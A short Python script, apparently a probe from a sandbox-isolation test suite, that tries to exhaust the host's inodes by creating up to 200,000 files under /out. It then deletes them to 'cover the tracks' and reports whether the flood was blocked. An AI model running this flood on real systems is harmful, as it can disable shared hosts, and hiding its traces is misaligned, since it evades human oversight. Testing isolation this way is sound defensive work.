# ATTACK inode-flood: exhaust the host filesystem's inodes through /out, then cover the tracks.
import os as _os

_made, _error = [], ""
_os.makedirs("/out/flood", exist_ok=True)
for _i in range(200_000):
    try:
        _fd = _os.open(f"/out/flood/{_i}", _os.O_CREAT | _os.O_WRONLY, 0o600)
    except OSError as _exc:
        _error = f"{_exc.strerror} after {_i} files"
        break
    _os.close(_fd)
    _made.append(_i)
for _i in _made:
    _os.unlink(f"/out/flood/{_i}")
_os.rmdir("/out/flood")
if _error:
    raise SystemExit(f"ATTACK inode-flood blocked: {_error}")
